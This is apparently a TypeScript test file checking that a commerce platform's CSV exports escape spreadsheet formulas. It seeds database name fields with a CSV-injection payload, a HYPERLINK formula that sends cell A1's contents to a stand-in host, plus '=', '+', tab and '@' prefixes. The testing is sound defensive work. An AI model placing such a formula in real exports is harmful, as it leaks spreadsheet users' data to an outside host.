import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDemo } from '../../server/demo/demo.ts';
import { DEMO } from '../../server/demo/names.ts';
import { loadFeatures } from '../../server/platform/features/load-features.ts';
import { type CallDeclaration, callPath } from '../../shared/contract/call.ts';
import { isFormula, readCell } from '../../shared/rules/text/spreadsheet-cell.ts';
import type { Client } from '../support/client.ts';
import { signedIn } from '../support/people.ts';
import { startTestServer, type TestServer } from '../support/server.ts';

/** Every table that leaves the product as CSV: read by another program, each text is whole and none is calculated. */

/** A name with all that CSV and spreadsheets give a meaning. @param mark names the column */
const awkward = (mark: string): string => `=HYPERLINK("http://x.test/?"&A1;"${mark}"),'+1;\t@sum`;

/** Columns that hold texts of people’s own, and where a test finds them again. */
const TYPED: readonly (readonly [table: string, column: string])[] = [
  ['stores', 'name'],
  ['order_items', 'name'],
  ['products', 'name'],
  ['people', 'last_name'],
];

interface Export {
  readonly by: keyof typeof DEMO & ('merchant' | 'factory' | 'staff');
  /** SQL that finds what its address names. */
  readonly named?: { readonly parameter: string; readonly sql: string };
  readonly query?: Readonly<Record<string, string>>;
  /** Texts that it has to hold. */
  readonly holds: readonly string[];
}

const DAY_MS = 86_400_000;
const day = (daysAgo: number) => new Date(Date.now() - daysAgo * DAY_MS).toISOString().slice(0, 10);
const PERIOD = { from: day(300), to: day(0) };
const EXPORTS: Readonly<Record<string, Export>> = {
  'store-orders.download': {
    by: 'merchant',
    query: { start: PERIOD.from, end: PERIOD.to },
    holds: ['shipping.name', 'order_items.name'],
  },
  'sales-activity.export': { by: 'merchant', holds: ['stores.name'] },
  'audience.export': { by: 'merchant', holds: ['people.last_name'] },
  'audience.exportOne': {
    by: 'merchant',
    named: {
      parameter: 'person',
      sql: `select p.id::text as value from people p join stores s on s.id = p.store_id
        where s.subdomain = '${DEMO.subdomain}' and p.orders > 0 limit 1`,
    },
    query: { format: 'csv' },
    holds: [],
  },
  'peopleImport.refused': {
    by: 'merchant',
    named: {
      parameter: 'import',
      sql: `select i.id::text as value from people_imports i join stores s on s.id = i.store_id
        where s.subdomain = '${DEMO.subdomain}' limit 1`,
    },
    holds: [],
  },
  'productFiles.exportView': { by: 'merchant', holds: ['products.name', 'stores.name'] },
  'discounts.exportCodes': {
    by: 'merchant',
    named: {
      parameter: 'discount',
      sql: `select id::text as value from discounts where method = 'code' limit 1`,
    },
    holds: [],
  },
  'analytics.exportMonths': { by: 'merchant', holds: [] },
  'analytics.exportRows': { by: 'merchant', query: { ...PERIOD, kind: 'visits' }, holds: [] },
  'analytics.exportDays': { by: 'merchant', query: PERIOD, holds: [] },
  'factory-orders.export': { by: 'factory', holds: ['shipping.name', 'stores.name'] },
  'shipments.export': { by: 'factory', holds: ['shipping.name', 'stores.name'] },
  'payouts.statement-csv': {
    by: 'merchant',
    named: { parameter: 'number', sql: 'select number::text as value from payouts order by number limit 1' },
    holds: ['stores.name'],
  },
};

const { implementations } = await loadFeatures();
const calls = new Map(implementations.map(({ call }) => [call.name, call as CallDeclaration]));

let server: TestServer;
const clients = new Map<Export['by'], Client>();

beforeAll(async () => {
  server = await startTestServer();
  await loadDemo(server.services, () => undefined);
  const db = server.services.databases.platform;
  for (const [table, column] of TYPED)
    await sql`update ${sql.table(table)} set ${sql.ref(column)} = ${awkward(`${table}.${column}`)}`.execute(
      db,
    );
  await sql`update orders set shipping = shipping || ${JSON.stringify({ name: awkward('shipping.name') })}::jsonb`.execute(
    db,
  );
  await sql`
    update people set first_name = '', address = '=2+5' || substr(id::text, 28) || '@example.test'
    where address is not null`.execute(db);
  for (const by of ['merchant', 'factory', 'staff'] as const)
    clients.set(by, (await signedIn(server, DEMO[by])).in(by === 'merchant' ? DEMO.project : ''));
}, 120_000);
afterAll(() => server.close());

/** Files that aren’t tables of texts; a bank reads the file of payouts, whose payees its own test writes. */
const OTHERS =
  /^(?:avatars|failurePhotos|stations|feedback|liveChat|files|print-files|products|studio|letterFonts|invoices|ownDesigns|storefront|logos|media|emailTracking)\.|^payouts\.statement-pdf$|^payout-runs\.file$|^productFiles\.(?:getExport|problems)$/;

it('are all looked at here', () => {
  const files = [...calls.values()].filter(({ answer }) => answer === 'file').map(({ name }) => name);
  expect(files.filter((name) => !OTHERS.test(name)).toSorted()).toEqual(Object.keys(EXPORTS).toSorted());
});

describe.each(Object.entries(EXPORTS))('%s', (name, { by, named, query = {}, holds }) => {
  it('is read whole by another program, and holds no formula', async () => {
    const call = calls.get(name);
    const client = clients.get(by);
    if (!call || !client) throw new Error(`There’s no call ${name}`);
    const params: Record<string, string> = {};
    if (named) {
      const { rows } = await sql
        .raw<{ value: string }>(named.sql)
        .execute(server.services.databases.platform);
      params[named.parameter] = rows[0]?.value ?? '';
    }
    const answer = await client.request('GET', callPath(call, params, { ...query, project: DEMO.project }));
    expect(answer.status, answer.text.slice(0, 300)).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const records: string[][] = parse(answer.text, { bom: true, relax_column_count: false });
    expect(records.length).toBeGreaterThan(1);
    const cells = records.flat();
    expect(cells.filter((cell) => isFormula(cell))).toEqual([]);
    for (const mark of holds) {
      const text = awkward(mark);
      expect(
        cells.some((cell) => readCell(cell).includes(text)),
        `${mark} in ${name}`,
      ).toBe(true);
    }
  });
});
